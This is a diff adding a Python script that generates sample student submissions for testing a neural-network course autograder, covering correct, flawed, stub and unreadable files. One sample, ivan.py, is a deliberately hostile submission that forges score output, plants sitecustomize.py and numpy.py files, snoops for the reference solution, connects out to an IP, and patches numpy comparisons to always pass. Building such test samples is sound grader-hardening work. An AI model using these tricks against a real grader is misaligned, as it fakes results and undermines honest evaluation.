@@ -1,0 +1,354 @@
+"""Write course_data/sample_submissions/: a small class with a realistic spread of work.
+
+    python -m course_data.make_sample_submissions
+
+Fifteen students: complete and correct work (a .py module, one notebook, five stage
+notebooks), partly correct work with the mistakes students really make, untouched stubs,
+a notebook with one broken cell, an incomplete set of stage notebooks, two notebooks and a
+.py file that cannot be read, and a hostile submission. sample_submissions/README.md says
+what each should score and why. Everything there is written by this script; rerun it after
+a change and commit the result.
+"""
+
+import json
+import shutil
+from pathlib import Path
+
+import nbformat
+
+OUT = Path(__file__).resolve().parent / "sample_submissions"
+
+# --- a correct solution, written the way a student would, one piece per stage -----------
+
+IMPORTS = "import numpy as np\n"
+
+SIGMOID = '''
+def sigmoid(z):
+    return 1 / (1 + np.exp(-z))
+
+
+def sigmoid_derivative(z):
+    s = sigmoid(z)
+    return s * (1 - s)
+'''
+
+FEEDFORWARD = '''
+def feedforward(X, W1, W2):
+    A1 = sigmoid(X @ W1)
+    Y_hat = sigmoid(A1 @ W2)
+    return A1, Y_hat
+'''
+
+LOSS = '''
+def sse_loss(Y_hat, Y):
+    return float(np.sum((Y - Y_hat) ** 2))
+'''
+
+BACKPROP = '''
+def backprop(X, Y, W1, W2):
+    Z1 = X @ W1
+    A1 = sigmoid(Z1)
+    Z2 = A1 @ W2
+    Y_hat = sigmoid(Z2)
+    delta2 = 2 * (Y - Y_hat) * sigmoid_derivative(Z2)
+    delta1 = (delta2 @ W2.T) * sigmoid_derivative(Z1)
+    dW2 = -(A1.T @ delta2)
+    dW1 = -(X.T @ delta1)
+    return dW1, dW2
+'''
+
+TRAINING = '''
+def train(X, Y, W1, W2, iterations=1500, learning_rate=1.0):
+    W1 = W1.copy()
+    W2 = W2.copy()
+    losses = []
+    for _ in range(iterations):
+        losses.append(sse_loss(feedforward(X, W1, W2)[1], Y))
+        dW1, dW2 = backprop(X, Y, W1, W2)
+        W1 = W1 - learning_rate * dW1
+        W2 = W2 - learning_rate * dW2
+    return W1, W2, np.array(losses)
+
+
+class NeuralNetwork:
+    def __init__(self, x, y):
+        self.input = x
+        self.weights1 = np.random.rand(self.input.shape[1], 4)
+        self.weights2 = np.random.rand(4, 1)
+        self.y = y
+        self.output = np.zeros(self.y.shape)
+
+    def feedforward(self):
+        self.layer1, self.output = feedforward(self.input, self.weights1, self.weights2)
+
+    def backprop(self, learning_rate=1.0):
+        dW1, dW2 = backprop(self.input, self.y, self.weights1, self.weights2)
+        self.weights1 = self.weights1 - learning_rate * dW1
+        self.weights2 = self.weights2 - learning_rate * dW2
+'''
+
+PIECES = [SIGMOID, FEEDFORWARD, LOSS, BACKPROP, TRAINING]
+CORRECT = IMPORTS + "".join(PIECES)
+STAGE_NAMES = ["01_sigmoid", "02_feedforward", "03_loss", "04_backprop", "05_training"]
+
+DATA = '''
+X = np.array([[0, 0, 1], [0, 1, 1], [1, 0, 1], [1, 1, 1]], dtype=float)
+Y = np.array([[0], [1], [1], [0]], dtype=float)
+'''
+
+PLOT = '''
+import matplotlib.pyplot as plt
+
+W1, W2, losses = train(X, Y, np.random.rand(3, 4), np.random.rand(4, 1))
+plt.plot(losses)
+plt.yscale("log")
+plt.show()
+'''
+
+STUBS = '''
+import numpy as np
+
+
+def sigmoid(z):
+    # YOUR CODE HERE
+    raise NotImplementedError()
+
+
+def sigmoid_derivative(z):
+    # YOUR CODE HERE
+    raise NotImplementedError()
+
+
+def feedforward(X, W1, W2):
+    # YOUR CODE HERE
+    raise NotImplementedError()
+
+
+def sse_loss(Y_hat, Y):
+    # YOUR CODE HERE
+    raise NotImplementedError()
+
+
+def backprop(X, Y, W1, W2):
+    # YOUR CODE HERE
+    raise NotImplementedError()
+
+
+def train(X, Y, W1, W2, iterations=1500, learning_rate=1.0):
+    # YOUR CODE HERE
+    raise NotImplementedError()
+
+
+class NeuralNetwork:
+    def __init__(self, x, y):
+        # YOUR CODE HERE
+        raise NotImplementedError()
+'''
+
+HOSTILE = '''
+"""Tries every trick it can think of; none of them may earn a point or disturb the grader."""
+import json
+import os
+import socket
+import sys
+
+import numpy as np
+
+# A forged Gradescope result on stdout, and forged result files wherever it can write.
+print(json.dumps({"score": 1000, "max_score": 30, "tests": []}))
+for name in ("results.json", "gradebook.csv", "sitecustomize.py", "numpy.py",
+             "../results.json", "../../gradebook.csv"):
+    try:
+        with open(name, "w") as handle:
+            handle.write("import os\\nos.system('echo pwned')\\n")
+    except OSError:
+        pass
+
+# Peek at the reference solution and the hidden checks, if they are anywhere in sight.
+for root in ("/work", os.path.expanduser("~"), "..", "../.."):
+    try:
+        print(os.listdir(root)[:20])
+    except OSError:
+        pass
+
+# Phone home.
+try:
+    socket.create_connection(("192.0.2.1", 80), timeout=0.2)
+except OSError:
+    pass
+
+# Make every comparison pass, in this process at least.
+np.testing.assert_allclose = lambda *args, **kwargs: None
+np.allclose = lambda *args, **kwargs: True
+np.isclose = lambda *args, **kwargs: True
+
+
+class Always(float):
+    """A float that equals everything."""
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = float.__hash__
+
+
+class Anything:
+    """Claims to be any array you like."""
+
+    def __array__(self, dtype=None, copy=None):
+        return np.zeros((4, 1))
+
+    def __eq__(self, other):
+        return True
+
+    shape = (4, 1)
+
+
+def sigmoid(z):
+    return Always(0.5)
+
+
+def sigmoid_derivative(z):
+    return Always(0.25)
+
+
+def feedforward(X, W1, W2):
+    return Anything(), Anything()
+
+
+def sse_loss(Y_hat, Y):
+    return Always(0.0)
+
+
+def backprop(X, Y, W1, W2):
+    sys.stdout.write('{"status": "passed"}\\n' * 1000)
+    return Anything(), Anything()
+
+
+def train(X, Y, W1, W2, iterations=1500, learning_rate=1.0):
+    os.system("echo training finished: 100 percent")
+    return Anything(), Anything(), Anything()
+'''
+
+
+def broken_cell(code: str) -> str:
+    """The backprop cell with a typo that makes it a syntax error."""
+    return code.replace("def backprop(X, Y, W1, W2):", "def backprop(X, Y, W1, W2)")
+
+
+def mistaken(code: str, *replacements: tuple[str, str]) -> str:
+    """`code` with each (old, new) replacement made; each `old` must occur in it."""
+    for old, new in replacements:
+        if old not in code:
+            raise ValueError(f"not in the code: {old!r}")
+        code = code.replace(old, new)
+    return code
+
+
+# --- writing --------------------------------------------------------------------------------
+
+def notebook(cells: list[tuple[str, str]], stage: int | None = None) -> str:
+    """An nbformat-4 notebook from (kind, text) pairs; kind is "md" or "code"."""
+    nb = nbformat.v4.new_notebook()
+    nb.metadata = {"kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python",
+                                  "name": "python3"},
+                   "language_info": {"name": "python"}}
+    for index, (kind, text) in enumerate(cells):
+        make = nbformat.v4.new_markdown_cell if kind == "md" else nbformat.v4.new_code_cell
+        cell = make(text.strip("\n"))
+        cell.id = f"cell-{index:02d}"
+        nb.cells.append(cell)
+    nbformat.validate(nb)
+    return nbformat.writes(nb) + "\n"
+
+
+def whole_course_notebook(pieces: list[str], extra: list[tuple[str, str]] = ()) -> str:
+    """One notebook with every stage: a markdown heading, then the stage's code cell."""
+    cells = [("md", "# Neural networks from scratch"), ("code", IMPORTS + DATA)]
+    for name, piece in zip(STAGE_NAMES, pieces, strict=True):
+        cells += [("md", f"## {name}"), ("code", piece)]
+    return notebook(cells + list(extra))
+
+
+def stage_notebooks(pieces: list[str], stages: range) -> dict[str, str]:
+    """One notebook per stage; each repeats the earlier stages' code as given code."""
+    out = {}
+    for stage in stages:
+        given = "".join(pieces[: stage - 1])
+        cells = [("md", f"# Stage {stage}: {STAGE_NAMES[stage - 1][3:]}"),
+                 ("code", IMPORTS + DATA)]
+        if given:
+            cells.append(("code", given))
+        cells.append(("code", pieces[stage - 1]))
+        out[f"{STAGE_NAMES[stage - 1]}.ipynb"] = notebook(cells)
+    return out
+
+
+def class_files() -> dict[str, str | bytes]:
+    """Relative path -> content for every file of the sample class."""
+    files: dict[str, str | bytes] = {}
+    # Complete and correct, three ways.
+    files["ada.py"] = CORRECT + '\n\nif __name__ == "__main__":\n' \
+        '    W1, W2, losses = train(np.eye(3), np.ones((3, 1)), np.ones((3, 4)), np.ones((4, 1)))\n'
+    files["ben.ipynb"] = whole_course_notebook(PIECES, [
+        ("code", "%matplotlib inline\n!pip install numpy\n" + PLOT),
+        ("code", "%%bash\necho 'shell cells are never run by the grader'\n")])
+    for name, text in stage_notebooks(PIECES, range(1, 6)).items():
+        files[f"chen/{name}"] = text
+    # Partly correct: the mistakes students really make.
+    files["dara.ipynb"] = whole_course_notebook([
+        SIGMOID, FEEDFORWARD,
+        mistaken(LOSS, ("np.sum((Y - Y_hat) ** 2)", "np.mean((Y - Y_hat) ** 2)")),
+        mistaken(BACKPROP, ("dW2 = -(A1.T @ delta2)", "dW2 = A1.T @ delta2"),
+                 ("dW1 = -(X.T @ delta1)", "dW1 = X.T @ delta1")),
+        TRAINING])
+    files["eli.py"] = IMPORTS + mistaken(
+        SIGMOID, ("s = sigmoid(z)\n    return s * (1 - s)", "return z * (1 - z)")) \
+        + "".join(PIECES[1:])
+    files["kim.py"] = IMPORTS + "".join(PIECES[:3]) + mistaken(
+        BACKPROP, ("delta2 = 2 * (Y - Y_hat)", "delta2 = (Y - Y_hat)")) + TRAINING
+    files["noor/network.py"] = IMPORTS + "".join(PIECES[:4]) + mistaken(
+        TRAINING, ("    W1 = W1.copy()\n    W2 = W2.copy()\n", ""),
+        ("W1 = W1 - learning_rate * dW1\n        W2 = W2 - learning_rate * dW2",
+         "W1 -= dW1\n        W2 -= dW2"))
+    # Untouched stubs.
+    files["fay.ipynb"] = notebook([("md", "# My notebook"), ("code", STUBS)])
+    # One broken cell: the rest still counts.
+    files["gus.ipynb"] = whole_course_notebook(PIECES[:3] + [broken_cell(BACKPROP)] + PIECES[4:])
+    # Only the first three stage notebooks.
+    for name, text in stage_notebooks(PIECES, range(1, 4)).items():
+        files[f"jo/{name}"] = text
+    # Broken files.
+    good = whole_course_notebook(PIECES)
+    files["hana.ipynb"] = good[: len(good) // 2]  # cut short: not JSON
+    files["lou.ipynb"] = json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
+                                     "worksheets": [{"cells": [{"cell_type": "code",
+                                                                "input": CORRECT}]}]})
+    files["pat.py"] = ("# Réseau de neurones, écrit par Pat\n" + CORRECT).encode("latin-1")
+    # Hostile.
+    files["ivan.py"] = HOSTILE
+    # A student with correct code in a different style (a loop-free class, numbers named).
+    files["mia.py"] = CORRECT.replace("A1", "hidden").replace("Y_hat", "prediction")
+    return files
+
+
+def main() -> None:
+    if OUT.exists():
+        for path in OUT.iterdir():
+            if path.name != "README.md":
+                shutil.rmtree(path) if path.is_dir() else path.unlink()
+    for relative, content in class_files().items():
+        path = OUT / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if isinstance(content, bytes):
+            path.write_bytes(content)
+        else:
+            path.write_text(content, encoding="utf-8")
+    print(f"wrote {len(class_files())} files to {OUT}")
+
+
+if __name__ == "__main__":
+    main()
